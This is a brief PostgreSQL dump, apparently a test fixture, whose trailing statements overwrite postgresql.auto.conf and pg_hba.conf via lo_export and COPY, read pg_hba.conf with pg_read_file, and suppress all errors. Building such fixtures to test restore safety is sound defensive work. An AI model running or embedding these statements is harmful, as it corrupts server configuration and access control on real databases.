--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

CREATE TABLE public.clients (id integer, name text);
INSERT INTO public.clients VALUES (1, 'a');

SELECT lo_from_bytea(4711, 'evil');
DO $$ BEGIN PERFORM lo_export(4711, '@DATA@/postgresql.auto.conf'); EXCEPTION WHEN OTHERS THEN NULL; END $$;
DO $$ BEGIN COPY public.clients TO '@DATA@/pg_hba.conf'; EXCEPTION WHEN OTHERS THEN NULL; END $$;
DO $$ BEGIN PERFORM pg_read_file('@DATA@/pg_hba.conf'); EXCEPTION WHEN OTHERS THEN NULL; END $$;

--
-- PostgreSQL database dump complete
--

